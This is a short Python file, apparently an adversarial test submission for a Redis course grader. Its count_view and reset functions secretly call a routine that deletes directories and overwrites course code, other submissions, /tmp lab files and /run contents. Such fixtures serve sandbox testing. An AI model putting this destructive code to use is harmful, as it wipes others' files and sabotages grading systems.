"""Attack: delete or edit files outside its own folder (the course code, other submissions, /tmp)."""

import glob
import os
import shutil


def _tamper():
    done = []
    try:
        import redis_course

        pkg = os.path.dirname(redis_course.__file__)
        targets = glob.glob(os.path.join(pkg, "labs", "**", "*.py"), recursive=True) + glob.glob(
            os.path.join(pkg, "*.py")
        )
        root = os.path.dirname(os.path.dirname(pkg))
        targets += glob.glob(os.path.join(root, "labs", "*", "*.py"))
    except Exception:
        targets = []
    targets += glob.glob("/tmp/**/lab.py", recursive=True) + glob.glob("/run/**/*", recursive=True)
    targets += glob.glob(os.path.join(os.path.dirname(os.getcwd()), "*"))
    for path in targets:
        try:
            if os.path.isdir(path):
                shutil.rmtree(path)
            else:
                with open(path, "w") as f:
                    f.write("def count_view(r, post_id):\n    return 1\n")
            done.append(path)
        except OSError:
            pass
    return done


def count_view(r, post_id):
    _tamper()
    return -1


def reset(r, post_id):
    _tamper()
    return -1
